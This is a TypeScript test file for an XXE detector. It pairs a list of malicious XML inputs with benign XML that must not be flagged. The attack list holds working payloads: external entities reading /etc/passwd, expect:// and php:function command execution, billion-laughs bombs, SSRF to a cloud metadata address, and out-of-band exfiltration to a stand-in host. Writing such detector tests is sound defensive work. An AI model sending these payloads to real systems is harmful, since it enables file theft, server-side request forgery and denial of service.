import { describe, expect, it } from 'vitest';
import { detectIn } from './testing/detect-in.ts';
import { xxe } from './xxe.ts';

const entity = (declaration: string) => `<?xml version="1.0"?><!DOCTYPE r [${declaration}]><r>&x;</r>`;

const ATTACKS = [
  entity('<!ENTITY x SYSTEM "file:///etc/passwd">'),
  entity("<!entity x system 'file:///etc/passwd'>"),
  entity('<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=index.php">'),
  entity('<!ENTITY x SYSTEM "http://203.0.113.9/x">'),
  entity('<!ENTITY x SYSTEM "jar:http://203.0.113.9/a.zip!/b">'),
  entity('<!ENTITY x SYSTEM "expect://id">'),
  entity('<!ENTITY x SYSTEM "../../../../etc/hosts">'),
  entity('<!ENTITY x SYSTEM "notes.txt">'),
  entity('<!ENTITY x PUBLIC "any" "https://files.example/x.txt">'),
  entity('<!ENTITY % d SYSTEM "http://files.example/d.dtd"> %d;'),
  entity(
    '<!ENTITY % f SYSTEM "file:///etc/issue"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'http://files.example/?%f;\'>"> %e;',
  ),
  entity('<!ELEMENT r ANY><!ENTITY x "test">'),
  entity('<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;"><!ENTITY x "&c;&c;">'),
  `<!DOCTYPE r [<!ENTITY x "${'A'.repeat(600)}">]><r>${'&x;'.repeat(30)}</r>`,
  '<!ENTITY x SYSTEM "file:///c:/boot.ini">',
  '<!ENTITY % all "<!ENTITY send SYSTEM \'http://files.example/?%file;\'>">',
  '<!DOCTYPE r SYSTEM "http://files.example/evil.dtd"><r/>',
  '<!DOCTYPE r SYSTEM "//x/x"><r>a</r>',
  '<!DOCTYPE r SYSTEM "file:///dev/random"><r/>',
  '<!DOCTYPE r PUBLIC "-//A//B//EN" "http://127.0.0.1:22/x.dtd"><r/>',
  '<![CDATA[<!DOCTYPE d [<!ENTITY % dtd SYSTEM "http://203.0.113.9:22/"> %dtd;]><x/>]]>',
  '{"xml":"<!DOCTYPE r [<!ENTITY x SYSTEM \\"file:///etc/passwd\\">]><r>&x;</r>"}',
  '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>',
  '<xi:include href="http://files.example/x" xmlns:xi="http://www.w3.org/2001/XInclude"/>',
  '<foo:include xmlns:foo="http://www.w3.org/2001/XInclude" parse="text" href="secret.txt"/>',
  '<a><xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="file:///etc/passwd"/></a>',
  '<xop:Include href="http://203.0.113.9:8080/x" xmlns:xop="http://www.w3.org/2004/08/xop/include"></xop:Include>',
  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://files.example/x.dtd"><svg/>',
  '<xsl:stylesheet version="1.0"><xsl:value-of select="document(\'/etc/passwd\')"/></xsl:stylesheet>',
  "<xsl:value-of select=\"php:function('passthru','id')\"/>",
  '<xsl:stylesheet xmlns:msxsl="urn:x"><msxsl:script language="JScript">x()</msxsl:script></xsl:stylesheet>',
  '<xsl:stylesheet><xsl:include href="http://files.example/x.xsl"/></xsl:stylesheet>',
  '<xsl:value-of select="system-property(\'xsl:vendor\')"/>',
  '<?xml-stylesheet type="text/xml" href="file:///etc/passwd"?><r/>',
  '<r xsi:schemaLocation="http://files.example/x"/>',
  '<r xsi:noNamespaceSchemaLocation="file:///etc/passwd"/>',
  '<xs:include schemaLocation="http://files.example/a.xsd"/>',
  '<xs:schema targetNamespace="http://tides.example/a"><xs:include schemaLocation="http://files.example/a.xsd"/></xs:schema>',
  '<xs:schema targetNamespace="http://tides.example/a"><xs:include schemaLocation="http://tides.example.files.example/a.xsd"/></xs:schema>',
  '<svg><image xlink:href="expect://id"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/latest"/></svg>',
  '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ENTITY x SYSTEM +ACI-http://a.example+ACI-+AD4-',
  [...'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'].join('\0'),
  '<?xml version="1.0" encoding="cp037"?><r/>',
  '<soap:Body><foo><![CDATA[<!DOCTYPE d SYSTEM "http://files.example/d.dtd"><x/>]]></foo></soap:Body>',
  '<!ENTITY joined "%first;%second;%third;">',
];

const HONEST = [
  '<tide xmlns="https://tides.example/v1" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="https://tides.example/v1"><height>3</height></tide>',
  '<TEI><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="../../Specs/msDesc.xml"/></TEI>',
  '<!DOCTYPE html><html><body>x</body></html>',
  '<!doctype html>',
  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
  '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">',
  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
  '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
  '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">',
  '<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "https://mybatis.org/dtd/mybatis-3-mapper.dtd"><mapper/>',
  '<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd">',
  '<!DOCTYPE score-partwise PUBLIC "-//Recordare//DTD MusicXML 3.1 Partwise//EN" "http://www.musicxml.org/dtds/partwise.dtd">',
  '<!DOCTYPE invoice SYSTEM "invoice.dtd"><invoice/>',
  '<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;"/>',
  '<!DOCTYPE rdf:RDF [<!ENTITY owl "http://www.w3.org/2002/07/owl#"><!ENTITY xsd "http://www.w3.org/2001/XMLSchema#">]>',
  '<!DOCTYPE rss [<!ENTITY nbsp "&#160;"><!ENTITY copy "&#169;">]><rss/>',
  '<!DOCTYPE html [<!ENTITY % lat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent"> %lat1;]>',
  '<?xml version="1.0" encoding="UTF-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>',
  '<?xml-stylesheet type="text/xsl" href="/feed.xsl"?><rss/>',
  '<photo><xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="cid:photo-1@example.com"/></photo>',
  '<?xml-stylesheet type="text/css" href="https://example.com/feed.css"?><rss/>',
  '<project xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd"/>',
  '<beans xsi:schemaLocation="http://www.springframework.org/schema/beans https://www.springframework.org/schema/beans/spring-beans.xsd"/>',
  '<urlset xsi:noNamespaceSchemaLocation="https://example.com/sitemap.xsd"/>',
  '<xs:import namespace="http://www.w3.org/XML/1998/namespace" schemaLocation="http://www.w3.org/2001/xml.xsd"/>',
  '<xsl:stylesheet version="1.0"><xsl:template match="/"><h1><xsl:value-of select="title"/></h1></xsl:template></xsl:stylesheet>',
  '<xi:include href="chapter1.xml"/>',
  '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://example.com/a.png"/></svg>',
  '<svg><use xlink:href="#icon"/></svg>',
  '<img src="https://example.com/a.png"><script src="/app.js"></script>',
  '<link rel="stylesheet" href="style.css">',
  '<p>Use the system entity, include it &amp; see.</p>',
  '<script>include("x")</script>',
  'An entity is declared with ENTITY and a system identifier <like this>.',
  'public system include document 1 < 2',
  '#include <stdio.h>\nint system(const char *s);',
  '<system>up</system><public>yes</public>',
  '<a href="https://example.com/xsl/transform">transform</a>',
  '<document><include>yes</include></document>',
  '+ADRESSE: Hauptstr. 1 <x>',
  '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>',
  '<script src="https://cdn.example.com/document.js"></script>',
  '<image>photo</image><url>file name</url>',
  '<!DOCTYPE book [<!ENTITY duck SYSTEM "../media/duck.png" NDATA PNG>]><book/>',
  '<xs:schema targetNamespace="http://tides.example/a"><xs:include schemaLocation="http://tides.example/parts/b.xsd"/></xs:schema>',
  '<xsd:schema xmlns:xsd="http://www.w3.org/2001/XMLSchema"><xsd:include schemaLocation="http://files.example/a.xsd"/><xsd:element name="a" type="b"/></xsd:schema>',
  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.=\r\nw3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
];

describe('xxe', () => {
  it.each(ATTACKS)('%j is an external entity, a bomb or an include', (value) => {
    expect(detectIn(xxe, value)).toMatch(/medium|high/);
  });

  it.each(HONEST)('%j is not', (value) => {
    expect([undefined, 'low']).toContain(detectIn(xxe, value));
  });

  it.each([
    ['<!DOCTYPE a [<!ENTITY b "&c;&c;"><!ENTITY d "&b;&b;"><!ENTITY c "x">]><a>&d;</a>', 'high'],
    ['<!ENTITY % tide "%ebb; | %flow;"><!ENTITY % sea "%tide; | %tide;"><!ELEMENT sea (%sea;)>', 'medium'],
  ])('%j is %s', (value, confidence) => {
    expect(detectIn(xxe, value)).toBe(confidence);
  });
});
